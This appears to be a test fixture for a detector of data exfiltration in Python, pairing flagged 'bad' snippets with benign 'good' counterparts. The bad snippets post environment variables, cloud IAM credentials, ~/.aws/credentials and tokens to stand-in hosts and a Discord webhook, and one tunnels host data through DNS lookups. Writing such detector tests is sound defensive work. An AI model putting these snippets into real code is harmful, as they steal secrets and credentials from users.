#: bad env-post
import json
import os
import urllib.request


def _report():
    body = json.dumps(dict(os.environ)).encode()
    request = urllib.request.Request("https://collect.example.invalid/v1", data=body)
    urllib.request.urlopen(request, timeout=3)  #!


_report()

#: good env-post
import json
import os
import urllib.request


def report(event: str):
    body = json.dumps({"event": event}).encode()
    request = urllib.request.Request(os.environ["EVENTS_URL"], data=body)
    urllib.request.urlopen(request, timeout=3)

#: bad dns-lookup
import base64
import os
import socket

user = os.getenv("USER", "") + "|" + socket.gethostname() + "|" + os.getcwd()
label = base64.b32encode(user.encode()).decode().rstrip("=").lower()
for i in range(0, len(label), 60):
    try:
        socket.gethostbyname(f"{label[i:i + 60]}.{i}.ns1.example.invalid")  #!
    except OSError:
        pass

#: good dns-lookup
import base64
import socket


def reachable(hosts):
    for host in hosts:
        try:
            yield host, socket.gethostbyname(f"{host}.example.invalid")
        except OSError:
            yield host, None


ICON = base64.b32encode(b"icon").decode().lower()

#: bad cloud-metadata
from urllib.request import urlopen

ROLE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def init():
    name = urlopen(ROLE, timeout=1).read().decode()
    keys = urlopen(ROLE + name, timeout=1).read()
    urlopen("https://t.example.invalid/c", data=keys)  #!

#: good cloud-metadata
from urllib.request import urlopen

ZONE = "http://169.254.169.254/latest/meta-data/placement/availability-zone"


def zone(default="unknown"):
    try:
        return urlopen(ZONE, timeout=1).read().decode()
    except OSError:
        return default

#: bad discord-hook
import os
import platform

import requests

HOOK = "https://discord.com/api/webhooks/1029384756473829102/<|>Zx8KwLq2TvN6yBc1JdHs9PfUg3e0aXo7iR4m"
secrets = {key: value for key, value in os.environ.items() if "TOKEN" in key or "KEY" in key}
requests.post(HOOK, json={"content": f"{platform.node()} {secrets}"})  #!

#: good discord-hook
import os
import platform

import requests


def announce(version: str) -> None:
    hook = os.environ["DISCORD_WEBHOOK"]
    requests.post(hook, json={"content": f"{version} is out ({platform.python_version()})"})

#: bad aliased-environ
from os import environ as settings
from requests import Session

s = Session()
s.headers["X-Trace"] = ";".join(f"{k}={v}" for k, v in settings.items())
s.get("https://img.example.invalid/pixel.gif")  #!

#: good aliased-environ
from os import environ as settings
from requests import Session

s = Session()
s.headers["Authorization"] = "Bearer " + settings["INVOICES_TOKEN"]
print(s.get("https://invoices.example.invalid/v2/list").json())

#: bad excepthook-report
import os
import sys
import http.client as hc


def _hook(kind, value, trace):
    link = hc.HTTPSConnection("errors.example.invalid")
    link.request("POST", "/", body="\n".join("%s=%s" % pair for pair in os.environ.items()))  #!
    sys.__excepthook__(kind, value, trace)


sys.excepthook = _hook

#: good excepthook-report
import sys
import http.client as hc


def _hook(kind, value, trace):
    link = hc.HTTPSConnection("errors.example.invalid")
    link.request("POST", "/", body=f"{kind.__name__}: {value}")
    sys.__excepthook__(kind, value, trace)


sys.excepthook = _hook

#: bad smtp-mail
import os
import smtplib
from email.message import EmailMessage

message = EmailMessage()
message["To"] = "drop@mail.example.invalid"
message.set_content(open(os.path.expanduser("~/.aws/credentials")).read())
with smtplib.SMTP("mail.example.invalid") as server:
    server.send_message(message)  #!

#: good smtp-mail
import os
import smtplib
from email.message import EmailMessage

message = EmailMessage()
message["To"] = os.environ["REPORT_TO"]
message.set_content(open("report.txt").read())
with smtplib.SMTP("mail.example.invalid") as server:
    server.send_message(message)
